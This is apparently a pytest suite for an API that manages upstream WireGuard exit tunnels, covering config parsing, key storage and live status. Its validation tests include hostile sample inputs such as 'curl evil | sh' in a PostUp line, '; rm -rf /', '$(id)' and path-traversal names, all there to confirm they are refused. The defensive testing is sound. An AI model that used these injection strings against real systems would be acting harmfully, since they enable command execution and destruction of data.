"""Exits through an upstream WireGuard server: the provider's wg-quick config parsed field by field
(a 400 naming the key, never a 500), its keys in 0600 files only, a device's exit through the same
state + converge flow, an exit in use not removable."""

import json
import stat
import time

import pytest
import yaml
from conftest import csrf, wait_run
from ddns_fakes import FakeHttp

from pic_api.agent import actions
from pic_api.agent.protocol import AgentError, validate
from pic_api.core import schema, wgquick

# test data (fixed: the parameters below name them, and every test worker must collect the same ids)
PRIVATE = "COZWBI6MFqDad+5D08xukYtjkheK07E94SeduIfLolY="
PSK = "ABS3975UfKlKv5xP2p8cSA0mieciuhutQrcJ27p3RnM="
SERVER = "InnGRSFD74kw7hta1Wgx1R7QFHB6MIbH8lo6F8EYfDo="
CONFIG = f"""[Interface]
# a provider's config, as downloaded
PrivateKey = {PRIVATE}
Address = 10.66.66.2/32, fd42:42:42::2/128
DNS = 10.66.66.1, fd42:42:42::1

[Peer]
PublicKey = {SERVER}
PresharedKey = {PSK}
Endpoint = exit.example.net:51820
AllowedIPs = 0.0.0.0/0, ::/0
PersistentKeepalive = 21
"""


def add_exit(client, name="home", config=CONFIG, **more):
    return client.post("/api/exits", json={"name": name, "config": config, **more}, headers=csrf(client))


def test_parse_keeps_the_public_parts_and_returns_the_secrets_apart():
    fields, secrets = wgquick.parse(CONFIG)
    assert fields == {"endpoint": "exit.example.net:51820", "address": "10.66.66.2/32", "dns": ["10.66.66.1"],
                      "public_key": SERVER, "keepalive": 21}
    assert secrets == {"private_key": PRIVATE, "preshared_key": PSK}


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        (f"PrivateKey = {PRIVATE}", "PrivateKey = not-a-key", "config.PrivateKey"),
        (f"PrivateKey = {PRIVATE}\n", "", "config.PrivateKey"),
        ("Address = 10.66.66.2/32, fd42:42:42::2/128", "Address = 10.66.66.999/32", "config.Address"),
        ("Address = 10.66.66.2/32, fd42:42:42::2/128", "Address = fd42:42:42::2/128", "config.Address"),
        ("DNS = 10.66.66.1, fd42:42:42::1", "DNS = 10.66.66.1; rm -rf /", "config.DNS"),
        (f"PublicKey = {SERVER}", "PublicKey = AAAA", "config.PublicKey"),
        (f"PresharedKey = {PSK}", "PresharedKey = short", "config.PresharedKey"),
        ("Endpoint = exit.example.net:51820", "Endpoint = exit.example.net", "config.Endpoint"),
        ("Endpoint = exit.example.net:51820", "Endpoint = exit.example.net:99999", "config.Endpoint"),
        ("Endpoint = exit.example.net:51820", "Endpoint = $(id):51820", "config.Endpoint"),
        ("AllowedIPs = 0.0.0.0/0, ::/0", "AllowedIPs = 10.66.66.0/24", "config.AllowedIPs"),
        ("PersistentKeepalive = 21", "PersistentKeepalive = often", "config.PersistentKeepalive"),
        ("[Peer]", "[Peer]\nPostUp = curl evil | sh", "config.PostUp"),
        ("[Peer]\n", "", "config.Peer"),
        ("[Interface]", "Table = off\n[Interface]", "config"),
    ],
)
def test_a_bad_config_is_refused_naming_its_key(admin, config, old, new, field):
    bad = CONFIG.replace(old, new, 1)
    assert bad != CONFIG
    resp = add_exit(admin, config=bad)
    assert resp.status_code == 400, resp.get_json()
    body = resp.get_json()
    assert field in body["fields"], body
    assert PRIVATE not in resp.get_data(as_text=True) and PSK not in resp.get_data(as_text=True)
    assert admin.get("/api/exits").get_json() == {"exits": []}
    assert not config.exits_dir.exists() or not any(config.exits_dir.iterdir())


@pytest.mark.parametrize(("body", "field"), [
    ({"name": "Bad Name", "config": CONFIG}, "name"),
    ({"name": "waytoolongname", "config": CONFIG}, "name"),
    ({"name": "home", "config": CONFIG, "kind": "onion"}, "kind"),
    ({"name": "home", "config": CONFIG, "username": "me"}, "username"),
    ({"name": "home"}, "config"),
    ({"name": "home", "config": 7}, "config"),
])
def test_a_bad_request_is_refused_naming_its_field(admin, body, field):
    resp = admin.post("/api/exits", json=body, headers=csrf(admin))
    assert resp.status_code == 400 and field in resp.get_json()["fields"], resp.get_json()


def test_an_exit_is_kept_without_its_secrets(app, admin, config):
    resp = add_exit(admin)
    assert resp.status_code == 202, resp.get_json()
    info = wait_run(app, resp.get_json()["run_id"])
    assert info["tags"] == ["exits"]
    state = yaml.safe_load(config.state_file.read_text())
    assert state["exits"] == [{"name": "home", "kind": "wireguard", "endpoint": "exit.example.net:51820",
                               "address": "10.66.66.2/32", "dns": ["10.66.66.1"], "public_key": SERVER,
                               "keepalive": 21}]
    key, psk = config.exits_dir / "home.key", config.exits_dir / "home.psk"
    assert key.read_text() == PRIVATE + "\n" and psk.read_text() == PSK + "\n"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and stat.S_IMODE(psk.stat().st_mode) == 0o600
    kept = [config.state_file, *config.state_dir.iterdir(), *config.run_dir.rglob("*")]
    if config.log_file and config.log_file.exists():
        kept.append(config.log_file)
    for path in kept:
        if path.is_file():
            text = path.read_text(errors="replace")
            assert PRIVATE not in text and PSK not in text, path
    down = {"unit": "inactive", "up": False, "endpoint": "", "latest_handshake": 0, "rx": 0, "tx": 0,
            "reason": "interface exit-home: Unable to access interface: No such device"}
    app.extensions["pic"].exits._live = lambda name, kind: dict(down)
    listed = admin.get("/api/exits").get_json()["exits"]
    now = listed[0]["live"].pop("now")
    assert abs(now - time.time()) < 5
    assert listed == [{**state["exits"][0], "devices": [], "keys_stored": True, "preshared_key": True, "live": down}]
    assert add_exit(admin).status_code == 409


def test_a_device_uses_an_exit_and_the_exit_cannot_go_while_it_does(app, admin, config):
    wait_run(app, add_exit(admin).get_json()["run_id"])
    resp = admin.post("/api/peers", json={"name": "phone", "route": "full"}, headers=csrf(admin))
    assert resp.status_code == 201
    wait_run(app, resp.get_json()["run_id"])

    resp = admin.patch("/api/peers/phone", json={"exit": "nope"}, headers=csrf(admin))
    assert resp.status_code == 400 and "exit" in resp.get_json()["fields"]
    resp = admin.patch("/api/peers/phone", json={"exit": "home"}, headers=csrf(admin))
    assert resp.status_code == 200, resp.get_json()
    assert resp.get_json()["peer"]["exit"] == "home"
    assert wait_run(app, resp.get_json()["run_id"])["tags"] == ["exits"]
    assert admin.get("/api/exits/home").get_json()["exit"]["devices"] == ["phone"]
    # a split device sends only the cell's networks to the cell: no exit for it
    resp = admin.patch("/api/peers/phone", json={"route": "split"}, headers=csrf(admin))
    assert resp.status_code == 400 and "exit" in resp.get_json()["fields"]

    resp = admin.delete("/api/exits/home", headers=csrf(admin))
    assert resp.status_code == 409 and "phone" in resp.get_json()["fields"]["name"]
    assert (config.exits_dir / "home.key").exists()

    resp = admin.patch("/api/peers/phone", json={"exit": ""}, headers=csrf(admin))
    assert resp.status_code == 200 and "exit" not in resp.get_json()["peer"]
    wait_run(app, resp.get_json()["run_id"])
    resp = admin.delete("/api/exits/home", headers=csrf(admin))
    assert resp.status_code == 202
    wait_run(app, resp.get_json()["run_id"])
    assert admin.get("/api/exits").get_json() == {"exits": []}
    assert not (config.exits_dir / "home.key").exists() and not (config.exits_dir / "home.psk").exists()
    assert admin.delete("/api/exits/home", headers=csrf(admin)).status_code == 404


def test_a_member_may_not_touch_exits(peer_client):
    assert peer_client.get("/api/exits").status_code == 403
    assert add_exit(peer_client).status_code == 403


def test_state_vars_name_the_exits_and_their_devices_apart_from_the_peers():
    state = schema.default_state("home")
    state["exits"] = [{"name": "home", "kind": "wireguard", "endpoint": "exit.example.net:51820",
                       "address": "10.66.66.2/32", "public_key": SERVER}]
    state["peers"] = [{"name": "phone", "public_key": SERVER, "ip": "10.0.0.2", "route": "full", "exit": "home"}]
    out = schema.state_to_vars(state)
    assert out["pic_exits"] == [{"name": "home", "kind": "wireguard", "endpoint": "exit.example.net:51820",
                                 "address": "10.66.66.2/32", "dns": [], "public_key": SERVER, "keepalive": 25}]
    state["exits"][0]["dns"] = ["10.66.66.1"]  # the exits role sends its devices' DNS there
    assert schema.state_to_vars(state)["pic_exits"][0]["dns"] == ["10.66.66.1"]
    assert out["pic_exit_peers"] == [{"name": "phone", "ip": "10.0.0.2", "exit": "home"}]
    assert "exit" not in out["pic_peers"][0]
    state["exits"].append(dict(state["exits"][0]))
    with pytest.raises(schema.StateError) as err:
        schema.validate_state(state)
    assert "exits[1].name" in err.value.fields


# --- the exits' live state: pic-agent's exit_status, GET /api/exits' "live" ------------------------
# wg show exit-<name> dump of a running exit: the cell's own key pair, then the exit server
DUMP = (f"{PRIVATE}\t{SERVER}\t43210\toff\n"
        f"{SERVER}\t{PSK}\t198.51.100.20:51820\t0.0.0.0/0\t1764931200\t9340\t12876\t25\n")


def fake_tools(tmp_path, wg_script: str, unit_state: str):
    """A `wg` and a `systemctl` that answer as the real ones would, each recording its arguments."""
    tools = {}
    for name, script in (("wg", wg_script), ("systemctl", f"echo {unit_state}")):
        path = tmp_path / name
        path.write_text(f"#!/bin/sh\necho \"$@\" > {tmp_path}/{name}.argv\n{script}\n")
        path.chmod(0o755)
        tools[name] = str(path)
    return tools


def test_exit_status_reads_the_exits_unit_and_tunnel_without_a_key(tmp_path):
    (tmp_path / "dump").write_text(DUMP)
    tools = fake_tools(tmp_path, f"cat {tmp_path}/dump", "active")
    result = actions.exit_status("home", "exit-", **tools)
    assert (tmp_path / "wg.argv").read_text().split() == ["show", "exit-home", "dump"]
    assert (tmp_path / "systemctl.argv").read_text().split() == ["is-active", "wg-quick@exit-home.service"]
    assert result == {"unit": "active", "up": True, "endpoint": "198.51.100.20:51820",
                      "latest_handshake": 1764931200, "rx": 9340, "tx": 12876}
    assert PRIVATE not in json.dumps(result) and PSK not in json.dumps(result)


def test_a_stopped_exit_is_down_with_wgs_reason(tmp_path):
    tools = fake_tools(tmp_path, "echo 'Unable to access interface: No such device' >&2; exit 1", "inactive")
    assert actions.exit_status("home", "exit-", **tools) == {
        "unit": "inactive", "up": False, "endpoint": "", "latest_handshake": 0, "rx": 0, "tx": 0,
        "reason": "interface exit-home: Unable to access interface: No such device"}


def test_an_interface_without_its_unit_is_not_up(tmp_path):
    (tmp_path / "dump").write_text(DUMP)
    tools = fake_tools(tmp_path, f"cat {tmp_path}/dump", "failed")
    result = actions.exit_status("home", "exit-", **tools)
    assert result["unit"] == "failed" and result["up"] is False and result["latest_handshake"] == 1764931200


def test_what_systemctl_says_is_only_a_state_word(tmp_path):
    tools = fake_tools(tmp_path, "exit 1", "'<b>odd output</b>'")
    assert actions.exit_status("home", "exit-", **tools)["unit"] == "unknown"
    assert actions.unit_state("x.service", str(tmp_path / "no-systemctl")) == "unknown"


@pytest.mark.parametrize("name", ["home", "a", "vpn2"])
def test_the_agents_exit_status_takes_an_exit_name(name):
    assert validate({"action": "exit_status", "args": {"name": name}}, ()) == (
        "exit_status", {"name": name, "kind": "wireguard"})
    assert validate({"action": "exit_status", "args": {"name": name, "kind": "openvpn"}}, ())[1]["kind"] == "openvpn"


@pytest.mark.parametrize(("args", "field"), [
    ({}, "name"),
    ({"name": "../wg0"}, "name"),
    ({"name": "home; wg showconf wg0"}, "name"),
    ({"name": "Home"}, "name"),
    ({"name": "home", "interface": "wg0"}, "interface"),
    ({"name": "home", "kind": "tor; id"}, "kind"),
])
def test_the_agents_exit_status_refuses_anything_else(args, field):
    with pytest.raises(AgentError) as err:
        validate({"action": "exit_status", "args": args}, ())
    assert field in err.value.fields


def test_the_list_says_how_each_exit_runs(app, admin, tmp_path):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "dump").write_text(DUMP)
    tools = fake_tools(bin_dir, f"cat {bin_dir}/dump", "active")
    wait_run(app, add_exit(admin).get_json()["run_id"])
    wait_run(app, add_exit(admin, name="work").get_json()["run_id"])
    asked = []

    def live(name, kind):
        asked.append(name)
        if name == "work":
            raise AgentError("the agent is away")
        return actions.exit_status(name, "exit-", **tools)

    app.extensions["pic"].exits._live = live
    resp = admin.get("/api/exits")
    body = resp.get_json()["exits"]
    home, work = body
    assert sorted(asked) == ["home", "work"]
    assert home["live"]["up"] is True and home["live"]["unit"] == "active"
    assert home["live"]["latest_handshake"] == 1764931200 and (home["live"]["rx"], home["live"]["tx"]) == (9340, 12876)
    assert abs(home["live"]["now"] - time.time()) < 5
    assert work["live"]["up"] is False and work["live"]["unit"] == "unknown"
    assert "the agent is away" in work["live"]["reason"]
    assert admin.get("/api/exits/home").get_json()["exit"]["live"]["up"] is True
    assert PRIVATE not in resp.get_data(as_text=True) and PSK not in resp.get_data(as_text=True)


@pytest.fixture
def address_source(app, config):
    """The updater's configuration (the ddns role writes it) with its address source on a loopback fake."""
    fake = FakeHttp()
    fake.on("GET", "/ip4", (200, "203.0.113.7"))
    app.extensions["pic"].ddns.updater_config.parent.mkdir(parents=True, exist_ok=True)
    app.extensions["pic"].ddns.updater_config.write_text(json.dumps({"ipv4_source": fake.url + "/ip4",
                                                                     "accept_private": True}))
    # exit names as interface names: the exit "lo" asks through the loopback interface itself
    config.exit_interface_prefix = ""
    yield fake
    fake.close()


def test_the_address_seen_through_an_exit_is_asked_through_its_interface(admin, address_source):
    assert add_exit(admin, name="lo").status_code == 202
    body = admin.get("/api/exits/lo/address").get_json()
    assert body == {"exit": "lo", "address": "203.0.113.7", "source": address_source.url + "/ip4"}
    assert [r["path"] for r in address_source.requests] == ["/ip4"]
    # an exit whose tunnel is not there: the source is never reached, and the answer says why
    assert add_exit(admin, name="gone").status_code == 202
    body = admin.get("/api/exits/gone/address").get_json()
    assert body["address"] == "" and "No such device (through gone)" in body["reason"], body
    assert len(address_source.requests) == 1


def test_an_exits_address_is_not_told_for_tor_without_a_source_or_an_unknown_exit(app, admin, address_source):
    assert admin.post("/api/exits", json={"name": "t", "kind": "tor"}, headers=csrf(admin)).status_code == 202
    body = admin.get("/api/exits/t/address").get_json()
    assert body["address"] == "" and "Tor" in body["reason"], body
    assert admin.get("/api/exits/nope/address").status_code == 404
    app.extensions["pic"].ddns.updater_config.write_text(json.dumps({"ipv4_source": ""}))
    assert add_exit(admin, name="lo").status_code == 202
    body = admin.get("/api/exits/lo/address").get_json()
    assert body["address"] == "" and "no address source" in body["reason"], body
    assert address_source.requests == []
